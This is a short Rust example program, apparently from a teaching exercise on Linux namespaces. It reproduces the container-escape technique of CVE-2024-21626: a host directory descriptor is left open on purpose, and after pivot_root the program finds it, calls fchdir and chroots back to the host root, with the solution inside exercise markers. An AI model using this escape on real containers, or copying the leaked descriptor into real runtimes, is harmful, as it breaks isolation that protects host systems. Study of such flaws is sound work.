//! Behind pivot_root(2), with one descriptor too many: CVE-2024-21626, small.
//! Run: `sudo target/debug/examples/leaked-directory ROOT COMMAND..`

use anyhow::{Result, bail};
use namespaces::namespace::{Namespace, Namespaces, unshare};
use namespaces::process::dup_inherited;
use namespaces::rootfs::{bind_root, make_private, pivot};
use nix::unistd::{chroot, fchdir};
use std::fs::File;
use std::os::unix::process::CommandExt;
use std::path::Path;
use std::process::Command;

fn main() -> Result<()> {
    let argv: Vec<_> = std::env::args().skip(1).collect();
    let [root, program, args @ ..] = argv.as_slice() else {
        bail!("usage: leaked-directory ROOT COMMAND..");
    };
    // A runtime looks at a directory of the host, and forgets to close it.
    let _forgotten = File::open("/")?;
    unshare(Namespaces::from_iter([Namespace::Mount]))?;
    make_private()?;
    pivot(bind_root(Path::new(root))?)?;
    leave()?;
    Err(Command::new(program).args(args).exec().into())
}

/// Makes `/` the host's root again. Something was left open; nobody says what.
fn leave() -> Result<()> {
    // EXERCISE 01.9 begin
    // STARTER: // `dup_inherited(number)` gives you any descriptor that is open.
    // STARTER: Ok(())
    let open = (3..64).filter_map(|number| dup_inherited(number).ok());
    for descriptor in open {
        // fchdir(2) wants a directory: the others refuse.
        if fchdir(&descriptor).is_ok() {
            return Ok(chroot(".")?);
        }
    }
    bail!("nothing is open that leads out")
    // EXERCISE 01.9 end
}
